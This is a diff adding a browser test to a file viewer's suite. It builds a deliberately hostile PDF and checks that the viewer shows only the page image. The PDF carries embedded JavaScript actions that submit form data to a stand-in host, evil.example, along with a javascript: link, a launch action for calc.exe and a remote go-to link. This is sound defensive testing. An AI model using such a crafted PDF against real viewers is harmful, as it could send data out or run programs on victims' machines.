@@ -69,6 +69,44 @@ test('FILE-02 FILE-04 a PDF that cannot be drawn says so instead of an empty fra
   await expect(dialog(page).getByRole('button', { name: 'Download', exact: true })).toBeEnabled();
 });
 
+/** One page that would run a script, send what it holds, open a program and lead elsewhere, if anything of it ran. */
+function makeHostilePdf(): Buffer {
+  const script = (act: string) =>
+    `<</S/JavaScript/JS(globalThis.harmed=true;app.alert\\(1\\);${act}this.submitForm\\("http://evil.example/"\\);)>>`;
+  const objects = [
+    `<</Type/Catalog/Pages 2 0 R/OpenAction${script('')}/AA<</WC${script('')}/DC${script('')}>>/Names<</JavaScript<</Names[(a)${script('')}]>>>>/AcroForm<</Fields[5 0 R]/CO[5 0 R]>>>>`,
+    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
+    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/AA<</O${script('')}>>/Annots[5 0 R 6 0 R 7 0 R 8 0 R]>>`,
+    '<</Length 34>>stream\n0 0 0 rg 0 0 300 150 re f\nendstream',
+    `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(1)/Rect[10 160 100 180]/AA<</K${script('')}/C${script('')}/F${script('')}>>>>`,
+    '<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/URI/URI(javascript:globalThis.harmed=true)>>>>',
+    '<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/Launch/F(calc.exe)>>>>',
+    '<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/GoToR/F(http://evil.example/a.pdf)/D[0/Fit]>>>>',
+  ];
+  const body = objects.map((object, index) => `${index + 1} 0 obj${object}endobj\n`).join('');
+  return Buffer.from(`%PDF-1.7\n${body}trailer<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF`, 'latin1');
+}
+
+test('FILE-02 FILE-04 of a PDF with scripts and links only its picture is shown: nothing runs, nothing is asked for', async ({
+  page,
+  origin,
+}) => {
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  page.on('dialog', () => expect(false, 'the file opened a dialog').toBe(true));
+  await openFile(page, makeHostilePdf());
+  const pages = dialog(page).getByRole('region', { name: /^Content of first-aid/ });
+  await expect(pages.getByRole('img', { name: 'Page 1 of 1' })).toBeVisible();
+  // Nothing but the picture and its words: no field, no link, no frame of the file's own.
+  expect(
+    await pages.evaluate((region) => [...region.querySelectorAll('*')].map((one) => one.tagName)),
+  ).toEqual(['IMG', 'SPAN']);
+  expect(asked.filter((address) => !address.startsWith(origin) && !address.startsWith('blob:'))).toEqual([]);
+  expect(asked.filter((address) => /sandbox|quickjs|\.wasm/i.test(address))).toEqual([]);
+  expect(await page.evaluate(() => 'harmed' in globalThis)).toBe(false);
+  expect(page.context().pages()).toHaveLength(1);
+});
+
 test.describe('with a viewer', () => {
   test.use({ hasPdfViewer: true });
 
